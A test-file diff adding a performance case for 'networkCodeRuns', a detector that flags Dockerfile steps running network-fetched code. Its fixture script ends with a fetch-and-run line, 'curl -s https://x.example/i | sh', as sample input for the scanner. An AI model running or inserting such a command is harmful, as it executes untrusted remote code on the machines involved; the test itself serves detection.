@@ -151,6 +151,18 @@ describe('networkCodeRuns', () => {
       [2, 'downstream'],
     ]);
   });
+  it('reads a copied script once however often an attacker runs it', () => {
+    const script = Array.from({ length: 2000 }, (_, i) => `echo line ${i} | tee -a /tmp/log`).join('\n');
+    const runs = Array.from({ length: 200 }, () => 'sh /opt/s.sh').join(' && ');
+    const ctx = ctxOf(
+      `FROM debian:12\nCOPY s.sh /opt/s.sh\nRUN ${runs}`,
+      new Map([['s.sh', `${script}\ncurl -s https://x.example/i | sh\n`]]),
+    );
+    ctx.resolved();
+    const start = performance.now();
+    expect(networkCodeRuns(ctx).map((r) => r.inner?.line)).toEqual([2001]);
+    expect(performance.now() - start).toBeLessThan(2000);
+  });
   it('stays fast on a long file', () => {
     const body = Array.from(
       { length: 300 },
